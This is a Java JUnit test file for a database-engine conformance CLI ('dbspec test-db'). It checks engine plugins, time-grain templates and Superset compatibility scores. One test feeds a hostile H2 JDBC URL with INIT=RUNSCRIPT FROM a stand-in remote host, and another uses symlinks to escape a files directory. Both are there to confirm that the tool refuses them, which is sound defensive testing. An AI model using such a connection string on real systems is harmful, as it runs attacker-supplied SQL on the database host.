package dev.dbspec.host;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.dbspec.testdb.TestDatabase;
import dev.dbspec.testdb.TestDatabases;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code dbspec test-db} on live engines, on a deliberately broken spec, and on bad input. */
class TestDbCommandTest {
    @TempDir
    static Path plugins;

    @TempDir
    static Path reports;


    @BeforeAll
    static void plugins() throws IOException {
        TestPluginJars.copyBuiltPlugins(plugins);
        // "brokenh2" speaks H2 (driver in drivers/) but claims a wrong day grain.
        Path folder = Files.createDirectories(plugins.resolve("brokenh2"));
        TestPluginJars.plugin("brokenh2")
                .source("dev.test.broken.Spec", """
                        package dev.test.broken;
                        import dev.dbspec.api.*;
                        import java.util.*;
                        @org.pf4j.Extension
                        public final class Spec implements EngineSpec {
                            public String id() { return "brokenh2"; }
                            public String displayName() { return "Broken H2"; }
                            public List<String> urlPrefixes() { return List.of("jdbc:brokenh2:"); }
                            public String urlTemplate() { return "jdbc:brokenh2:mem:{database}"; }
                            public String driverUrl(String url) { return url.replace("jdbc:brokenh2:", "jdbc:h2:"); }
                            public String driverClassName() { return "org.h2.Driver"; }
                            public Map<TimeGrain, String> timeGrainExpressions() {
                                return Map.of(TimeGrain.HOUR, "DATE_TRUNC('HOUR', {col})", TimeGrain.DAY, "DATE_TRUNC('MONTH', {col})");
                            }
                        }
                        """)
                .extension("dev.test.broken.Spec")
                .writeTo(folder);
        Path lib = Path.of(System.getProperty("dbspec.test.pluginsDir")).resolve("h2").resolve("lib");
        Files.createDirectories(folder.resolve("drivers"));
        try (Stream<Path> jars = Files.list(lib)) {
            for (Path jar : jars.toList()) {
                Files.copy(jar, folder.resolve("drivers").resolve(jar.getFileName()));
            }
        }
    }

    static CliRunner.Run run(String... args) {
        return CliRunner.run(plugins, args);
    }

    @Test
    void h2PassesEveryClaimAndWritesReports() throws Exception {
        Path json = reports.resolve("h2.json");
        Path html = reports.resolve("h2.html");
        CliRunner.Run run = run("test-db", "jdbc:h2:mem:testdb_h2", "--json", json.toString(), "--html", html.toString());
        assertThat(run.exitCode()).as(run.out() + run.err()).isZero();
        assertThat(run.out()).contains("Engine: H2 (h2), built-in plugin h2", "Superset-compatible score:", "[PASS]",
                "time grain P1W/1970-01-04T00:00:00Z", "cancel a running statement", "Summary:", "-> PASSED");
        JsonNode report = new ObjectMapper().readTree(json.toFile());
        assertThat(report.get("engineId").asText()).isEqualTo("h2");
        assertThat(report.get("failed").asInt()).isZero();
        assertThat(report.get("scorecard").get("supersetMax").asInt()).isEqualTo(201);
        List<String> ids = new ArrayList<>();
        report.get("checks").forEach(check -> {
            ids.add(check.get("id").asText());
            assertThat(check.get("status").asText()).as(check.toString()).isIn("PASSED", "SKIPPED");
        });
        assertThat(ids).contains("connect", "select1", "grain.PT1S", "grain.P1Y", "literal.timestamp", "epoch",
                "error.syntax", "error.missing_table", "types", "capability.joins", "limit", "metadata", "cancel", "file-upload");
        String page = Files.readString(html);
        assertThat(page).contains("<title>dbspec test-db: H2</title>", "201").doesNotContain("http://", "https://", "<script ", "src=");

        // The score counts only what passed live: verified <= claimed, each feature with one of the four verdicts.
        JsonNode score = report.get("supersetScore");
        assertThat(score.get("max").asInt()).isEqualTo(201);
        assertThat(score.get("verified").asInt()).isPositive().isLessThanOrEqualTo(score.get("claimed").asInt());
        assertThat(score.get("features").size()).isEqualTo(18);
        int verified = 0;
        for (JsonNode grain : score.get("grains")) {
            verified += grain.asText().equals("VERIFIED") ? 1 : 0;
        }
        for (JsonNode feature : score.get("features")) {
            assertThat(feature.get("verdict").asText()).isIn("VERIFIED", "FAILED", "NOT_CHECKABLE", "ABSENT");
            verified += feature.get("verdict").asText().equals("VERIFIED") ? 10 : 0;
        }
        assertThat(score.get("verified").asInt()).isEqualTo(verified);
        assertThat(score.get("features").get("file_upload").get("verdict").asText()).isEqualTo("VERIFIED"); // UploadChecks, live
        assertThat(score.get("features").get("ssh_tunneling").get("verdict").asText()).isEqualTo("ABSENT");
        assertThat(run.out()).contains("Superset-compatible score: verified " + score.get("verified").asInt() + "/201, claimed "
                + score.get("claimed").asInt() + "/201");
        assertThat(page).contains("Superset score verified live", score.get("verified").asInt() + " / 201");
    }

    /**
     * The verified score of each live engine, from its JSON report, with no feature failed (measured 2026-12-05: PostgreSQL
     * 201, MariaDB and MySQL 181, H2 and DuckDB 151, HSQLDB 141, SQLite 131, Derby 121). The embedded engines miss what
     * their engines lack: users, a network to tunnel, roles, partitions; Derby's embedded driver does not implement
     * Statement.cancel (SQLFeatureNotSupportedException, measured) and plans a statement only by running it.
     */
    @org.junit.jupiter.params.ParameterizedTest
    @org.junit.jupiter.params.provider.CsvSource({"postgresql,201", "mariadb,180", "mysql,180", "sqlite,130", "h2,150", "duckdb,150",
            "hsqldb,140", "derby,120"})
    void verifiedScores(String engine, int minimum) throws Exception {
        TestDatabase database = TestDatabases.require(engine);
        Path json = reports.resolve(engine + "-score.json");
        List<String> args = new ArrayList<>(List.of("test-db", database.jdbcUrl(), "--json", json.toString()));
        localFolder(database.jdbcUrl()).ifPresent(folder -> args.addAll(List.of("--files-dir", folder)));
        database.user().ifPresent(user -> args.addAll(List.of("--user", user)));
        CliRunner.Run run = run(args.toArray(String[]::new));
        assertThat(run.exitCode()).as(run.out() + run.err()).isZero();
        JsonNode score = new ObjectMapper().readTree(json.toFile()).get("supersetScore");
        assertThat(score.get("verified").asInt()).as(run.out()).isGreaterThanOrEqualTo(minimum);
        score.get("features").fields().forEachRemaining(feature ->
                assertThat(feature.getValue().get("verdict").asText()).as(feature.getKey() + ": " + feature.getValue()).isNotEqualTo("FAILED"));
    }

    /** Every live engine of this machine passes test-db with every claimed capability verified. */
    @org.junit.jupiter.params.ParameterizedTest
    @org.junit.jupiter.params.provider.ValueSource(strings = {"sqlite", "postgresql", "mariadb", "mysql", "hsqldb", "derby", "duckdb"})
    void everyLiveEnginePasses(String engine) {
        TestDatabase database = TestDatabases.require(engine);
        List<String> args = new ArrayList<>(List.of("test-db", database.jdbcUrl()));
        localFolder(database.jdbcUrl()).ifPresent(folder -> args.addAll(List.of("--files-dir", folder)));
        database.user().ifPresent(user -> args.addAll(List.of("--user", user)));
        CliRunner.Run run = run(args.toArray(String[]::new));
        assertThat(run.exitCode()).as(run.out() + run.err()).isZero();
        assertThat(run.out()).contains("(" + engine + ")", "built-in plugin", "[PASS]  limit applied", "-> PASSED").doesNotContain("[FAIL]");
    }

    @Test
    void aWrongGrainTemplateFailsWithTheGrainNamed() {
        CliRunner.Run run = run("test-db", "jdbc:brokenh2:mem:broken");
        assertThat(run.exitCode()).as(run.out()).isEqualTo(1);
        assertThat(run.out()).contains("third-party plugin", "[FAIL]", "time grain P1D (Day)", "DATE_TRUNC('MONTH', {col})", "-> FAILED");
        assertThat(run.out()).containsPattern("\\[PASS\\]\\s+time grain PT1H");
    }

    @Test
    void unknownAndDangerousUrlsExitWithTwo() {
        CliRunner.Run unknown = run("test-db", "jdbc:nosuchdb://h/x");
        assertThat(unknown.exitCode()).isEqualTo(2);
        assertThat(unknown.err()).contains("no engine serves URL", "jdbc:h2:");
        assertThat(unknown.out()).doesNotContain("Superset-compatible score");
        CliRunner.Run dangerous = run("test-db", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'");
        assertThat(dangerous.exitCode()).isEqualTo(2);
        assertThat(dangerous.err()).contains("INIT", "refused");
    }
    /** The folder of an embedded engine's database file, as the operator would give it with --files-dir. */
    private static java.util.Optional<String> localFolder(String jdbcUrl) {
        java.util.regex.Matcher file = java.util.regex.Pattern.compile("^jdbc:[a-z]+:(?:file:)?(/[^;?]+)").matcher(jdbcUrl);
        return file.find() ? java.util.Optional.of(java.nio.file.Path.of(file.group(1)).getParent().toString()) : java.util.Optional.empty();
    }

    /** test-db confines local database files like the server: a path outside --files-dir is refused before anything runs. */
    @Test
    void localDatabaseFilesOutsideTheFilesDirectoryAreRefused(@org.junit.jupiter.api.io.TempDir Path temp) throws Exception {
        Path files = java.nio.file.Files.createDirectory(temp.resolve("files"));
        Path outside = temp.resolve("outside.db");
        java.nio.file.Files.createSymbolicLink(files.resolve("link.db"), outside);
        for (String url : new String[] {"jdbc:sqlite:" + outside, "jdbc:sqlite:" + files.resolve("link.db"),
                "jdbc:sqlite::resource:file:" + outside}) {
            CliRunner.Run run = run("test-db", url, "--files-dir", files.toString());
            assertThat(run.exitCode()).as(url + run.out() + run.err()).isEqualTo(2);
            assertThat(run.out()).doesNotContain("Live checks");
        }
        assertThat(outside).as("test-db created the database outside the files directory").doesNotExist();
        CliRunner.Run inside = run("test-db", "jdbc:sqlite:" + files.resolve("inside.db"), "--files-dir", files.toString());
        assertThat(inside.exitCode()).as(inside.out() + inside.err()).isZero();
    }
}
